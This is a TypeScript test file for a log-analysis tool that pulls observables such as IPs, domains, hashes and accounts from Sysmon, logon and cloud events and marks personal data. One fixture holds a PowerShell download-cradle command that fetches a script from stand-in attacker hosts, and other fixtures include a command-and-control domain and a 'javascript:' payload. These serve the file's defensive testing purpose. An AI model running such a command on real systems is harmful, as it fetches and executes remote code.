import assert from "node:assert/strict";
import { describe, it } from "node:test";
import fc from "fast-check";
import { OBSERVABLE_KINDS } from "../core/index.js";
import { extractAll, extractObservables, isPersonal, normaliseObservable } from "./observables.js";

const pick = (list: { kind: string; value: string; personal: boolean }[]) =>
  list.map((o) => `${o.kind} ${o.value}${o.personal ? " (personal)" : ""}`);

describe("extractObservables", () => {
  it("reads a Sysmon process creation", () => {
    const got = extractObservables({
      Computer: "WS-PARIS-014",
      Image: "C:\\Users\\c.bernard\\AppData\\Local\\Temp\\svc.exe",
      CommandLine:
        "powershell -c iwr https://cdn.evil.example/p.ps1?x=1, (New-Object Net.WebClient).DownloadString('http://203.0.113.47:8080/a')",
      User: "MARTEL\\c.bernard",
      Hashes:
        "MD5=00E65AA87285501FA9625096081BA2D9,SHA256=53DADC40BB276161FBB4864750877D9641EBE8A5DEE5CE338D2554171EEBC6D1,IMPHASH=F34D5F2D4577ED6D9CEEC516C1F5A744",
      ProcessId: 4242,
    });
    assert.deepEqual(pick(got), [
      "url https://cdn.evil.example/p.ps1?x=1",
      "url http://203.0.113.47:8080/a",
      "domain cdn.evil.example",
      "ipv4 203.0.113.47",
      "md5 00e65aa87285501fa9625096081ba2d9",
      "sha256 53dadc40bb276161fbb4864750877d9641ebe8a5dee5ce338d2554171eebc6d1",
      "account MARTEL\\c.bernard (personal)",
      "hostname ws-paris-014 (personal)",
      "process C:\\Users\\c.bernard\\AppData\\Local\\Temp\\svc.exe (personal)",
    ]);
  });

  it("reads a failed logon and a network connection, unmapping IPv4-in-IPv6 and skipping '-' and loopback", () => {
    const logon = extractObservables({
      Computer: "srv-lyon-dc01",
      TargetUserName: "a.fournier",
      TargetDomainName: "MARTEL",
      SubjectUserName: "-",
      IpAddress: "::ffff:203.0.113.47",
      WorkstationName: "KALI",
    });
    assert.deepEqual(pick(logon), [
      "ipv4 203.0.113.47",
      "account MARTEL\\a.fournier (personal)",
      "hostname srv-lyon-dc01 (personal)",
      "hostname kali (personal)",
    ]);
    const net = extractObservables({
      SourceIp: "10.20.14.37",
      DestinationIp: "2001:DB8::0:1",
      DestinationHostname: "c2.bad.example.",
      QueryName: "127.0.0.1",
      Image: "C:\\Windows\\System32\\rundll32.exe",
    });
    assert.deepEqual(pick(net), [
      "ipv4 10.20.14.37 (personal)",
      "ipv6 2001:db8::1",
      "domain c2.bad.example",
      "process C:\\Windows\\System32\\rundll32.exe",
    ]);
  });

  it("reads cloud records by dotted path", () => {
    const got = extractObservables({
      userIdentity: { arn: "arn:aws:iam::111122223333:user/ops" },
      sourceIPAddress: "198.51.100.77",
      file: { hash: { sha1: "A9993E364706816ABA3E25717850C26C9CD0D89D" } },
    });
    assert.deepEqual(pick(got), [
      "ipv4 198.51.100.77",
      "sha1 a9993e364706816aba3e25717850c26c9cd0d89d",
      "account arn:aws:iam::111122223333:user/ops (personal)",
    ]);
  });

  it("dedupes across events, accounts case-insensitively, and caps the list", () => {
    const events = [
      { User: "CORP\\Alice" },
      { User: "corp\\alice", IpAddress: "203.0.113.5" },
      { IpAddress: "203.0.113.5" },
    ];
    assert.deepEqual(pick(extractAll(events)), ["account CORP\\Alice (personal)", "ipv4 203.0.113.5"]);
    assert.equal(extractAll(events, 1).length, 1);
  });

  it("never throws and only returns valid, canonical observables (property)", () => {
    const value = fc.oneof(
      fc.string(),
      fc.ipV4(),
      fc.ipV6(),
      fc.domain(),
      fc.webUrl(),
      fc.emailAddress(),
      fc.integer(),
      fc.constant("-"),
    );
    const fieldName = fc.constantFrom(
      "IpAddress",
      "DestinationIp",
      "QueryName",
      "CommandLine",
      "Hashes",
      "User",
      "TargetUserName",
      "Computer",
      "Image",
      "url",
      "SenderAddress",
      "other",
    );
    fc.assert(
      fc.property(fc.dictionary(fieldName, value), (event) => {
        for (const o of extractObservables(event)) {
          const again = normaliseObservable(o.kind, o.value);
          assert.ok(again.ok, `${o.kind} ${o.value}`);
          assert.deepEqual(again.value, { kind: o.kind, value: o.value });
          assert.equal(o.personal, isPersonal(o));
        }
      }),
      { numRuns: 500 },
    );
  });
});

describe("normaliseObservable", () => {
  it("canonicalises and refuses per kind", () => {
    const good: [string, string, string][] = [
      ["ipv6", "::FFFF:10.0.0.1", "ipv4 10.0.0.1"],
      ["cidr", "2001:DB8::/32", "cidr 2001:db8::/32"],
      ["domain", "Bücher.Example.", "domain xn--bcher-kva.example"],
      ["email", "Alice@Example.COM", "email Alice@example.com"],
      ["url", "HTTPS://Evil.Example/a b", "url https://evil.example/a%20b"],
      ["sha256", "A".repeat(64), `sha256 ${"a".repeat(64)}`],
    ];
    for (const [kind, value, want] of good) {
      const r = normaliseObservable(kind as never, value);
      assert.ok(r.ok, `${kind} ${value}`);
      assert.equal(`${r.value.kind} ${r.value.value}`, want);
    }
    const bad: [string, string][] = [
      ["ipv4", "2001:db8::1"],
      ["ipv4", "10.0.0.256"],
      ["cidr", "10.0.0.1/8"],
      ["domain", "localhost"],
      ["domain", "1.2.3.4"],
      ["domain", "-bad.example"],
      ["url", "javascript:alert(1)"],
      ["email", "not-an-email"],
      ["md5", "xyz"],
      ["sha1", "a".repeat(39)],
      ["account", "bad\u0000name"],
      ["hostname", "a b"],
      ["process", ""],
    ];
    for (const [kind, value] of bad) {
      const r = normaliseObservable(kind as never, value);
      assert.equal(r.ok, false, `${kind} ${value}`);
      if (!r.ok) assert.equal(r.error.code, "invalid-observable");
    }
  });

  it("is idempotent for every kind (property)", () => {
    fc.assert(
      fc.property(
        fc.constantFrom(...OBSERVABLE_KINDS),
        fc.oneof(fc.string(), fc.ipV4(), fc.ipV6(), fc.domain(), fc.webUrl()),
        (kind, v) => {
          const once = normaliseObservable(kind, v);
          if (!once.ok) return;
          assert.deepEqual(normaliseObservable(once.value.kind, once.value.value), once);
        },
      ),
    );
  });
});

describe("isPersonal", () => {
  it("marks people, their machines and internal addresses", () => {
    const cases: [string, string, boolean][] = [
      ["account", "svc-backup", true],
      ["email", "a@b.example", true],
      ["hostname", "ws-1", true],
      ["ipv4", "10.0.0.1", true],
      ["ipv4", "203.0.113.47", false],
      ["ipv6", "fd00::1", true],
      ["ipv6", "2001:db8::1", false],
      ["cidr", "192.168.0.0/16", true],
      ["cidr", "203.0.113.0/24", false],
      ["domain", "evil.example", false],
      ["sha256", "a".repeat(64), false],
      ["process", "C:\\Windows\\System32\\cmd.exe", false],
      ["process", "C:\\Users\\Public\\x.exe", false],
      ["process", "/home/alice/.cache/x", true],
      ["url", "https://evil.example/x", false],
      ["url", "https://bob:pw@evil.example/x", true],
      ["url", "https://evil.example/x?u=alice%40corp.example", true],
    ];
    for (const [kind, value, personal] of cases)
      assert.equal(isPersonal({ kind: kind as never, value }), personal, `${kind} ${value}`);
  });
});
